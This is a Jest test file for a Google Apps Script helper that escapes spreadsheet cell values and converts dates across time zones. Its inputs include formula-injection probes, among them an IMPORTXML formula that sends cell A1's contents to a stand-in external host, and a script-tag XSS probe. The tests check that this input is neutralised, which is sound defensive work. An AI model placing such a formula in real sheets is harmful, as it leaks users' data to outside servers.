/** @zones */
import { asText, fromSheet, toSheet } from '../../../src/apps-script/sheets/cell-values';

describe('Text on its way to a sheet', () => {
  // https://developers.google.com/apps-script/reference/spreadsheet/range#setvaluesvalues
  test.each([
    '=IMPORTXML("http://example.test/?"&A1;"//a")',
    '+7 913 123-45-67',
    '-2+3',
    '@SUM(A1:A9)',
    "'уже с апострофом",
    '01.02',
    '1e5',
    '007',
    '3/4',
    'ИСТИНА',
    '\t=1',
  ])('gets an apostrophe where a sheet would read more into it: %s', (text) => {
    expect(asText(text)).toBe(`'${text}`);
  });

  test.each([
    '',
    'Иванова Анна',
    '8 Б',
    'до 4',
    '<script>alert(1)</script>',
    '😀 просто хочу общаться',
    '10–13, 14–17 лет',
  ])('stays as it is otherwise: %s', (text) => {
    expect(asText(text)).toBe(text);
  });
});

describe('A date', () => {
  test.each(['Europe/Moscow', 'Asia/Krasnoyarsk', 'America/Sao_Paulo'])('comes back as the same day in %s', (zone) => {
    for (const date of ['2012-05-05', '1985-03-31', '2026-02-28']) {
      const written = toSheet(date, 'date', zone);
      expect(Object.prototype.toString.call(written)).toBe('[object Date]');
      expect(fromSheet(written, 'date', zone)).toBe(date);
    }
  });

  test('that is none stays the text that was typed', () => {
    expect(toSheet('не скажу', 'date', 'Europe/Moscow')).toBe('не скажу');
    expect(toSheet('31.02.2010', 'date', 'Europe/Moscow')).toBe("'31.02.2010");
  });
});

test('Numbers and blanks pass unchanged', () => {
  expect(toSheet(7, 'integer', 'Europe/Moscow')).toBe(7);
  expect(toSheet('', 'integer', 'Europe/Moscow')).toBe('');
  expect(fromSheet(true, 'text', 'Europe/Moscow')).toBe('true');
});
